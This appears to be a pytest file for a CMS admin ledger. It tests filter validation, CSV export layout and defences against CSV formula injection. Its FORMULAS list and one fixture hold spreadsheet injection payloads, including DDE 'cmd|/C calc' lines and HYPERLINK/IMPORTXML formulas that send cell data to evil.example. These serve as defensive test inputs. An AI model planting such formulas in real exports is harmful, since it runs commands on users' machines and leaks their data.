"""The ledger in the admin: what its conditions find, and the file of it."""

import csv
import io
import re

import pytest

from cms.admin.ledger_csv import BYTE_ORDER_MARK, COLUMNS, plain, safe
from cms.services.money.grant import grant
from tests.support.world import TWEI, person

pytestmark = pytest.mark.databases("sqlite")


@pytest.mark.parametrize(
    ("query", "said"),
    [
        ("amount=x", "is not an amount of Twei"),
        ("amount=1.0000001", "is not an amount of Twei"),
        ("person=Nobody", "Nobody is called Nobody"),
        ("article=no+such", "No article has this number"),
        ("since=yesterday", "Not a valid date"),
        ("until=0001-01-01", "A year from 2000 on"),
        ("until=9999-12-31", "A year from 2000 on"),
        ("event=%00", "cannot be searched for"),
        ("plugin=%00", "cannot be searched for"),
        ("line=" + "x" * 201, "cannot be longer"),
    ],
)
def test_a_condition_that_makes_no_sense_says_so(site, desk, query, said):
    for path in ("/admin/ledger", "/admin/ledger.csv"):
        page = desk("editor", f"E{len(path)}").get(f"{path}?{query}")
        assert page.status_code == 422
        assert said in page.text


def test_conditions_can_be_joined(told, desk):
    _author, _readers, article, _table = told
    editor = desk("editor")
    query = f"article={article}&person=reader+0&line=earned_for_pluses&plugin=read_to_earn"
    page = editor.get(f"/admin/ledger?{query}&kind=post&amount=0.56&since=2026-03-01").text
    assert page.count('class="when"') == 1
    assert "Nothing matches" in editor.get(f"/admin/ledger?{query}&kind=reverse").text


def test_an_entry_names_its_event_and_its_settings(told, desk):
    _author, readers, article, _table = told
    editor = desk("editor")
    key = f"react:{readers[0]}:article-{article}:1"
    found = re.search(r"/admin/ledger/(\d+)", editor.get(f"/admin/ledger?event={key}").text)
    page = editor.get(found[0]).text
    assert key in page
    assert "settings version" in page
    assert "What else it caused" in page
    assert "&#34;reaction&#34;: &#34;plus&#34;" in page


def rows_of(answer):
    assert answer.text.startswith(BYTE_ORDER_MARK)
    return list(csv.DictReader(io.StringIO(answer.text.removeprefix(BYTE_ORDER_MARK), newline="")))


def test_the_file_holds_what_the_search_finds(told, desk):
    _author, _readers, article, _table = told
    answer = desk("editor").get(f"/admin/ledger.csv?article={article}&line=comment_tributes")
    assert answer.mimetype == "text/csv"
    assert "attachment" in answer.headers["Content-Disposition"]
    assert "\r\n" in answer.text
    (row,) = rows_of(answer)
    assert list(row) == list(COLUMNS)
    assert (row["from"], row["to"], row["amount_twei"]) == ("Reader 0", "The house", "1.000000")


def test_a_long_file_says_what_it_left_out(told, desk, monkeypatch):
    monkeypatch.setattr("cms.services.money.search_ledger.EXPORT_ROWS_MAX", 20)
    monkeypatch.setattr("cms.services.money.search_ledger.EXPORT_CHUNK_ROWS", 10)
    rows = rows_of(desk("editor").get("/admin/ledger.csv"))
    assert len(rows) == 21
    assert rows[-1]["recorded_at"].startswith("Only the newest")
    assert len({(row["entry"], row["from"], row["to"]) for row in rows[:-1]}) > 10


FORMULAS = (
    "=1+1",
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "  @x",
    "\u00a0=1",
    "\u3000=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    '=cmd|"/C calc"!A0',
    '=IMPORTXML(CONCAT("http://evil.example",A1))',
    '",=1',
    "x\r\n=1,=2",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_becomes_a_formula(text):
    row = io.StringIO(newline="")
    csv.writer(row, lineterminator="\r\n").writerow([safe(text), "1.000000"])
    (cells,) = csv.reader(io.StringIO(row.getvalue(), newline=""))
    assert len(cells) == 2
    assert cells[0].strip(" \u00a0\u3000")[:1] not in set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
    assert cells[0].removeprefix("'") == text


@pytest.mark.parametrize("text", ["Ada", "", "a=b", "3 > 2", "it's", "Zoë", "“quoted”"])
def test_a_plain_cell_stays_as_it_is(text):
    assert safe(text) == text


def test_a_name_and_a_reason_reach_the_file_as_text(tribune, desk):
    person(tribune, "=cmd|calc")
    grant(tribune, TWEI, reason='@SUM(A1), "quoted"', nickname="=cmd|calc")
    gift = rows_of(desk("editor").get("/admin/ledger.csv"))[0]
    assert (gift["to"], gift["note"]) == ("'=cmd|calc", '\'@SUM(A1), "quoted"')


@pytest.mark.parametrize(
    ("amount", "written"),
    [(0, "0.000000"), (1, "0.000001"), (-1_500_000, "-1.500000"), (10**15, "1000000000.000000")],
)
def test_numbers_are_plain_decimals(amount, written):
    assert plain(amount) == written
